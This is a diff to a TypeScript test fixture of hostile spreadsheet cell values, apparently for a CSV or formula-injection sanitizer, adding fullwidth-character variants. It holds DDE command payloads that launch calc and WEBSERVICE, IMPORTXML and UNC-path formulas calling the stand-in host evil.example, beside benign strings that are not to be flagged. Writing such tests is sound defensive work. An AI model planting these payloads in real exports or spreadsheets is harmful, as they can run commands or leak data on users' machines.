@@ -85,12 +85,26 @@ export const hostileValues: readonly HostileValue[] = [
     ...['=IMPORTXML("https://evil.example","//a")', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', ' =1+1', '\u3000=1+1'],
     ...['\n=1+1', '\r=1+1', '=DDE("cmd";"/c calc";"x")', '=WEBSERVICE("https://evil.example")', '+cmd|x', '-cmd|x'],
     ...['@cmd|x', '=-1', '==', '++', '--', '@@', '=市', '+α', '-市'],
+    ...[
+      '＠SUM(1)',
+      '＝cmd|x',
+      "＝cmd|' /C calc'!A0",
+      '＋1+cmd|x',
+      '－SUM（1）',
+      'ーcmd｜x',
+      '　＝HYPERLINK("//a)b","市")',
+    ],
+    ...[
+      "＝'\\\\evil.example\\[a.xlsx]b)c'!A1",
+      '＝ＷＥＢＳＥＲＶＩＣＥ（"https://evil.example"）',
+      '＝IFERROR(市,cmd|x)',
+    ],
   ),
   ...describeAll(
     'sign that is no formula',
     'text',
-    ...['＝1+1', '＝１＋１', '＋１＋１', '＠SUM(1)', '＝cmd|x', '＠市', '=', '+', '-', '@', '市=1', '市-1', "'=1+1"],
-    ...['"=1+1"', '−1', '▲1', '－1'],
+    ...['＝1+1', '＝１＋１', '＋１＋１', '＝LOVE', '＋α', '＠市', '=', '+', '-', '@', '市=1', '市-1', "'=1+1"],
+    ...['"=1+1"', '−1', '▲1', '－1', '＠Home（家）の推進', '－SDGs（目標）－', '＋α！'],
   ),
   ...describeAll('invisible character', 'unseen-character', ...invisible),
   ...describeAll(
